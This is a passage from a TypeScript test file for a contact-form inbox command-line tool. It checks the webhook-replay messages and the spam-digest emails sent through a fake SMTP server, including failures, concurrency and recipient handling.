      await expect(run({ name: 'webhooks-replay', id: 1 }, { webhooks })).resolves.toEqual({
        code: EXIT.ok,
        out: 'Delivery #1 was waiting for its next try (due 2026-06-01 11:00:07): it is due now, and the running server sends it within a few seconds.\n',
        err: '',
      });
      expect((await webhooks.list(50)).map((d) => [d.id, d.status, d.attempts, d.nextAttemptAt])).toEqual([
        [2, 'pending', 0, '2026-06-01T12:00:00.000Z'],
        [1, 'pending', 1, '2026-06-01T11:00:07.000Z'],
      ]);
      await expect(run({ name: 'webhooks-replay', id: 99 }, { webhooks })).resolves.toEqual({
        code: EXIT.notFound,
        out: '',
        err: 'No webhook delivery #99. See npm run inbox -- webhooks.\n',
      });
      await expect(run({ name: 'webhooks-replay', id: 2 })).resolves.toEqual({
        code: EXIT.notFound,
        out: '',
        err: 'No webhook delivery #2. See npm run inbox -- webhooks.\n',
      });
    });

    test('replay of a delivery whose try is under way says until when it may run', async () => {
      const webhooks = await deliveries();
      const endpoint = endpoints[0]!;
      await db.sql.transaction((tx) => recordEvent(tx, 'contact.received', { id: 2 }, new Date('2026-06-01T11:30:00.000Z')));
      await webhooks.fanOut([endpoint], new Date('2026-06-01T11:30:00.000Z'));
      const taken = (await webhooks.claim(new Date('2026-06-01T11:59:30.000Z'), new Date('2026-06-01T12:00:30.000Z')))!;
      await expect(run({ name: 'webhooks-replay', id: taken.delivery.id }, { webhooks })).resolves.toEqual({
        code: EXIT.ok,
        out: `Delivery #${taken.delivery.id} is being sent right now; its try ends by 2026-06-01 12:00:30 (npm run inbox -- webhooks shows how it went).\n`,
        err: '',
      });
    });
  });

  describe('digest, through a real SMTP server', () => {
    let smtp: FakeSmtpServer;
    beforeEach(async () => {
      smtp = await startSmtpServer();
    });
    afterEach(() => smtp.close());

    const mailSite = { name: 'Atelier Nord', senderName: 'Atelier Nord', adminOrigin: undefined };
    function digest(withMailServer = true, { people = false } = {}) {
      const config = { url: smtp.url(), to: 'owner@example.com', from: 'site@example.com' };
      const deps = {
        spam: db.spam,
        mailer: withMailServer ? createSmtpMailer(config) : undefined,
        smtp: withMailServer ? config : undefined,
        site: mailSite,
        retentionDays: 30,
        logger: createLogger({ level: 'silent' }),
        // As `npm run inbox -- digest` reads them: the people who asked for it (people/recipients.ts).
        recipients: people ? createRecipients(db.sql, config.to) : undefined,
      };
      return () => digestNow(deps, new Date('2026-06-01T12:00:00.000Z'));
    }
    const hold = () => db.spam.hold({ name: 'Held Bot', email: 'bot@example.net', message: 'Buy now.', honeypot: '' }, { reasons: ['too-fast'] });

    test('sends the digest of what was held and says so on stdout', async () => {
      await hold();
      await expect(run({ name: 'digest' }, { sendDigest: digest() })).resolves.toEqual({
        code: EXIT.ok,
        out: 'The digest of held messages was sent to owner@example.com.\n',
        err: '',
      });
      expect(smtp.received.map((mail) => [mail.to, parseMail(mail.raw).header('subject')])).toEqual([
        [['owner@example.com'], ['[Atelier Nord] Held as spam: 1 message']],
      ]);
    });

    test('with people, says whom it went to: each who asked for it, not CONTACT_TO', async () => {
      const people = createPeopleStore(db.sql, { passwordHash: undefined, contactTo: 'owner@example.com' });
      const at = new Date('2026-06-01T11:00:00.000Z');
      for (const email of ['eddie@example.org', 'rita@example.org']) {
        const made = await people.create({ email, role: 'reader', forms: ['contact'], origin: 'cli', digest: true }, at);
        if (!made.ok) throw new Error('not made');
      }
      await hold();
      await expect(run({ name: 'digest' }, { sendDigest: digest(true, { people: true }) })).resolves.toEqual({
        code: EXIT.ok,
        out: 'The digest of held messages was sent to eddie@example.org, rita@example.org.\n',
        err: '',
      });
      expect(smtp.received.map((mail) => mail.to)).toEqual([['eddie@example.org'], ['rita@example.org']]);
    });

    test('with nothing held sends nothing, and that is a success', async () => {
      await expect(run({ name: 'digest' }, { sendDigest: digest() })).resolves.toEqual({
        code: EXIT.ok,
        out: 'Nothing was held as spam since the last digest, so none was sent.\n',
        err: '',
      });
      expect(smtp.attempts()).toBe(0);
    });

    test('without a mail server, or when it refuses, fails on stderr', async () => {
      await hold();
      await expect(run({ name: 'digest' }, { sendDigest: digest(false) })).resolves.toEqual({
        code: EXIT.failed,
        out: '',
        err: 'No mail server: set SMTP_URL, CONTACT_TO and CONTACT_FROM to send the digest.\n',
      });
      smtp.answer(() => ({ code: 554, message: 'Rejected' }));
      await expect(run({ name: 'digest' }, { sendDigest: digest() })).resolves.toEqual({
        code: EXIT.failed,
        out: '',
        err: 'The mail server did not take the digest (the line above says why); nothing is lost, try again later.\n',
      });
    });

    test('of two run at once, one sends and the other says another is sending', async () => {
      await hold();
      const both = await Promise.all([run({ name: 'digest' }, { sendDigest: digest() }), run({ name: 'digest' }, { sendDigest: digest() })]);
      expect(both).toEqual([
        { code: EXIT.ok, out: 'The digest of held messages was sent to owner@example.com.\n', err: '' },
        { code: EXIT.failed, out: '', err: 'Another instance is sending the digest at this moment; try again in a minute.\n' },
      ]);
      expect(smtp.received).toHaveLength(1);
    });

    test('without a way to send it is a programming error', async () => {
      await expect(run({ name: 'digest' })).rejects.toThrow(new Error('the digest cannot be sent from here'));
    });
  });
});
